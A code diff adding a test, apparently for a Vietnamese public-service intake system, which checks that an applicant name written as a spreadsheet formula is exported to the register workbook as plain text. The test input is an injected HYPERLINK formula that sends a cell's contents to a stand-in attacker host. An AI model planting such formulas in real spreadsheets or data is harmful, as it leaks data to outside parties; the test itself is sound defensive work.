@@ -164,3 +164,22 @@ def test_the_desk_is_told_when_a_phone_number_is_not_one_and_nothing_is_saved(pr
         clock=clock,
     )
     assert dossier.applicant_phone == "0912345678"  # kept as the SMS gateway and the tracking page read it
+
+
+def test_an_applicant_named_like_a_formula_is_written_as_text(procedure, centre, receiver, clock):
+    evil = '=HYPERLINK("http://evil.example/x?"&A1,"Bấm")'
+    clock.set(datetime(2026, 3, 10, 9, 30, tzinfo=VN_TZ))
+    _walk_in(receiver, procedure, centre, clock, name=evil)
+    out = BytesIO()
+    register_workbook(
+        out,
+        agency=centre,
+        start=date(2026, 3, 1),
+        end=date(2026, 3, 31),
+        now=clock.now(),
+        cal=working_calendar(),
+        due_soon=timedelta(hours=8),
+    )
+    ws = load_workbook(BytesIO(out.getvalue())).active
+    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert any(evil in str(c.value) for row in ws.iter_rows() for c in row)
